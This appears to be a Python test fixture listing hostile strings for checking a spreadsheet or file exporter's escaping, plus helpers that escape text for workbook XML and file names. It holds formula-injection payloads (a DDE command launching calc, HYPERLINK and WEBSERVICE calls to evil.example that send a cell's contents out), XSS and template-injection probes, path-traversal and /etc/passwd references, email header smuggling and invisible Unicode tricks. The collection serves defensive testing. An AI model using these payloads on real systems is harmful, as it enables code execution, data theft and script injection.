"""Texts that mean something to some program: a formula, a link, markup, a header, a path, an escape."""

from __future__ import annotations

LONG = "長" * 33_000

FORMULAS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"按這裡")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "of:=1+1",
    "{=1+1}",
    '"=1+1',
    'x","=1+1',
    "x\n=1+1",
)
MARKUP = (
    "<script>window.hit=1;alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'></td></style></title><script>alert(1)</script>",
    "{{7*7}}",
    "{% for x in (1).__class__ %}",
    "{office}{0}%s",
    "]]>",
    "--><!-- -- >",
    "&lt;b&gt;&amp;",
)
LINKS = (
    "javascript:alert(1)",
    "http://evil.example/x",
    "internal:封面!A1",
    "file:///etc/passwd",
)
LINES = (
    "x\nBcc: x@example.gov.tw",
    "x\r\nBcc: x@example.gov.tw\r\n\r\n信",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
)
UNSEEN = (
    "\u202egro.elpmaxe\u202c",
    "零\u200b寬\u2060字\ufeff",
    "a\x7fb\x85c\x9b31m紅",
    "x\u2028結果在 /tmp",
    "\x1b[31m紅\x1b[0m\x07\x00",
    "半\ud83d個",
)
HOSTILE = (*FORMULAS, *MARKUP, *LINKS, *LINES, *UNSEEN, LONG)


def in_a_workbook(text: str) -> str:
    """The text as it stands in the XML of a workbook: what XML cannot hold is written by its number."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")
    return "".join(
        f"_x{ord(char):04X}_" if (char < " " and char not in "\t\n") or "\ud800" <= char <= "\udfff" else char
        for char in escaped
    )


def in_a_name(text: str) -> str:
    """The text as part of the name of a file, without what no file system takes."""
    held = text.replace("/", "\u2215").replace("\0", "").encode("utf-8", "ignore")
    return held[:75].decode("utf-8", "ignore")
